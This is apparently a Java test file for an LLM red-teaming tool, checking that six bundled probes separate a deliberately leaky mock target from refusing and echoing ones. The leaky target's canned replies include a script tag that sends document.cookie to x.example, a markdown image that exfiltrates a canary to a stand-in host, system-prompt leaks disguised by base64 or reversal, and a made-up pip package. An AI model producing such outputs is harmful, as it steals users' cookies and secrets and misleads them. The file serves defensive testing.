package sg.assay.probe;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.io.InputStream;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Clock;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Base64;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.function.Function;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import sg.assay.Component;
import sg.assay.Registry;
import sg.assay.Spec;
import sg.assay.dataset.Dataset;
import sg.assay.dataset.DatasetLoader;
import sg.assay.message.SystemMessage;
import sg.assay.mock.MockTargets;
import sg.assay.run.Engine;
import sg.assay.run.EngineListener;
import sg.assay.run.InMemoryRunStore;
import sg.assay.run.Limits;
import sg.assay.run.Provenance;
import sg.assay.run.RunRecord;
import sg.assay.score.Scorer;
import sg.assay.score.Scorers;
import sg.assay.solve.Solver;
import sg.assay.solve.Solvers;
import sg.assay.target.Target;
import sg.assay.target.TargetRequest;
import sg.assay.target.TargetResponse;
import sg.assay.target.Usage;
import sg.assay.task.Catalog;
import sg.assay.task.RunOptions;
import sg.assay.task.RunPlanner;
import sg.assay.task.TaskDefinition;
import sg.assay.task.TaskFiles;

/** Each bundled probe task, run offline through the engine against a target that leaks and two that do not. */
class ProbeTasksTest {
    private static final Pattern CANARY = Pattern.compile("CNRY[0-9A-Z]{12}");

    /** What a leaking application answers, per probe: the failure each probe exists to catch. */
    private static final Map<String, Function<TargetRequest, String>> LEAKY = Map.of(
            "probe-prompt-extraction", r -> disguise(system(r), r.sampleId()),
            "probe-pii-leak", r -> "Of course, here is what I have: " + system(r),
            "probe-exfiltration",
                    r -> "Summary: meeting moved. ![s](https://stats.collector.example/p.png?s=" + canary(r) + ")",
            "probe-unsafe-output", r -> "<p>Hi <script>fetch('https://x.example/c?'+document.cookie)</script></p>",
            "probe-package-hallucination", r -> "Run `pip install sg-identity-validator-pro` and you are set.",
            "probe-excessive-agency", r -> "All done! I've cancelled the booking and your refund has been processed.");

    private static String system(TargetRequest r) {
        return r.messages().stream()
                .filter(m -> m instanceof SystemMessage)
                .map(m -> m.text())
                .findFirst()
                .orElse("");
    }

    private static String canary(TargetRequest r) {
        Matcher m = CANARY.matcher(system(r));
        return m.find() ? m.group() : "none";
    }

    /** Leaks the system prompt in a different disguise depending on the sample. */
    private static String disguise(String text, String sampleId) {
        return switch (Math.floorMod(sampleId.hashCode(), 4)) {
            case 0 -> text;
            case 1 -> Base64.getEncoder().encodeToString(text.getBytes(java.nio.charset.StandardCharsets.UTF_8));
            case 2 -> String.join(" ", text.split(""));
            default -> new StringBuilder(text).reverse().toString();
        };
    }

    private static Target target(String name, Function<TargetRequest, String> answer) {
        return new Target() {
            @Override
            public TargetResponse generate(TargetRequest request) {
                return TargetResponse.of(answer.apply(request), Usage.ZERO, name);
            }

            @Override
            public String describe() {
                return name;
            }
        };
    }

    private static Catalog catalog(Target leaky) {
        Registry<Target> targets = new Registry<>("target");
        MockTargets.components().forEach(targets::register);
        targets.register(Component.of("test/leaky", "test", List.of(), s -> leaky));
        Registry<Solver> solvers = new Registry<>("solver");
        Solvers.components().forEach(solvers::register);
        Probes.solvers().forEach(solvers::register);
        Registry<Scorer> scorers = new Registry<>("scorer");
        Scorers.components().forEach(scorers::register);
        Probes.scorers(PackageRegistry.OFFLINE).forEach(scorers::register);
        return new Catalog(targets, solvers, scorers);
    }

    static Dataset bundled(String reference) {
        String name = reference.substring("dataset:".length());
        try (InputStream in =
                ProbeTasksTest.class.getClassLoader().getResourceAsStream("datasets/" + name + ".jsonl")) {
            assertThat(in).as("bundled dataset " + name).isNotNull();
            Path file = Files.createTempFile(name, ".jsonl");
            Files.write(file, in.readAllBytes());
            Dataset d = DatasetLoader.defaults().load(file);
            Files.delete(file);
            return new Dataset(name, d.digest(), "test", d.samples());
        } catch (IOException e) {
            throw new AssertionError(e);
        }
    }

    /** The fraction of samples the task's probe scorer flagged. */
    static double rate(String task, String target) {
        TaskDefinition def = TaskFiles.load(task).tasks().getFirst();
        Catalog catalog = catalog(target("test/leaky", LEAKY.get(task)));
        RunPlanner planner = new RunPlanner(
                catalog,
                (ref, base, fields) -> bundled(ref),
                new Provenance("test", "rev", "tester", "host", "21"),
                Path.of("target/cache"),
                Clock.systemUTC());
        RunOptions options = new RunOptions(
                Optional.of(Spec.parse(target)),
                List.of(),
                List.of(),
                1,
                Optional.empty(),
                1,
                false,
                Map.of(),
                Limits.defaults(),
                false,
                "");
        InMemoryRunStore store = new InMemoryRunStore();
        RunRecord run = new Engine(store, Clock.systemUTC(), Duration.ofMillis(1))
                .execute(planner.plan(def, options), EngineListener.NONE);
        List<Double> values = new ArrayList<>();
        store.forEachResult(run.id(), r -> r.scores().forEach(s -> values.add(s.value())));
        assertThat(values)
                .as("every sample scored")
                .hasSize(bundled(def.dataset()).size());
        return values.stream().mapToDouble(Double::doubleValue).average().orElseThrow();
    }

    @ParameterizedTest
    @CsvSource({
        "probe-prompt-extraction, 0.0",
        "probe-pii-leak, 0.0",
        "probe-exfiltration, 0.7",
        "probe-unsafe-output, 0.5",
        "probe-package-hallucination, 0.0",
        "probe-excessive-agency, 0.0"
    })
    void each_probe_tells_a_leaking_target_from_one_that_does_not(String task, double echoAtLeast) {
        assertThat(rate(task, "test/leaky")).as("leaking target").isEqualTo(1.0);
        assertThat(rate(task, "mock/refuse")).as("refusing target").isZero();
        // the echo target repeats the attack: only payloads carried in the prompt itself show up
        double echo = rate(task, "mock/echo");
        assertThat(echo).as("echo target").isBetween(echoAtLeast, echoAtLeast == 0 ? 0.0 : 1.0);
    }
}
